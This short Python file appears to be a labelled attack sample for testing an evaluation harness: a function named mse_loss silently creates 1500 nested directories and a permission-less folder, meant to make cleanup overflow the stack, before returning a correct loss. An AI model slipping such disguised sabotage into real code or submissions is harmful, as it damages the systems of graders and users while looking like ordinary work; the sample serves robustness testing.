# attack: makes folders so deep that removing them overflows a stack, some without permissions | must: wrong|raised|timed_out|crashed
import os


def mse_loss(pred, target):
    for number in range(1500):
        os.mkdir("d" * 20)
        os.chdir("d" * 20)
    os.mkdir("closed", 0)
    return (pred - target).mean()
